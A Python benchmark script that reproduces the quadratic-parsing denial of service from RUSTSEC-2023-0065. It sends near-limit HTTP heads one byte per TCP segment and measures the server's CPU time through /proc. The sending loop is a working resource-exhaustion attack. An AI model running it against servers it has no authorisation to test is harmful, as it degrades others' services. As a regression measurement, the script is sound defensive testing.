#!/usr/bin/env python3
"""CPU a server spends on request heads delivered one byte per TCP segment.

The attack behind RUSTSEC-2023-0065: a handshake parser that re-parses the
whole head on every read does work quadratic in the head's length. This
sends N heads of just under the server's limit (8 KiB by default), each
one byte per segment with Nagle off, and reads the server's CPU time
(utime + stime from /proc/PID/stat) before and after.

    scripts/head-cpu.py HOST:PORT SERVER_PID [N] [HEAD_BYTES]
"""
import os
import socket
import sys
import time


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    pid = int(sys.argv[2])
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 10
    size = int(sys.argv[4]) if len(sys.argv) > 4 else 8000
    head = b"GET / HTTP/1.1\r\nX-Pad: " + b"a" * (size - 27) + b"\r\n\r\n"
    before, started = cpu_seconds(pid), time.monotonic()
    answers = []
    for _ in range(count):
        s = socket.create_connection((host, int(port)), timeout=30)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(len(head)):
            s.send(head[i : i + 1])
        answers.append(s.recv(64).split(b"\r\n", 1)[0].decode(errors="replace"))
        s.close()
    spent = cpu_seconds(pid) - before
    print(
        f"{count} heads of {len(head)} bytes, one byte per segment, in "
        f"{time.monotonic() - started:.1f} s: server CPU {spent:.2f} s "
        f"({1000 * spent / count:.1f} ms per head); answers: {sorted(set(answers))}"
    )


main()
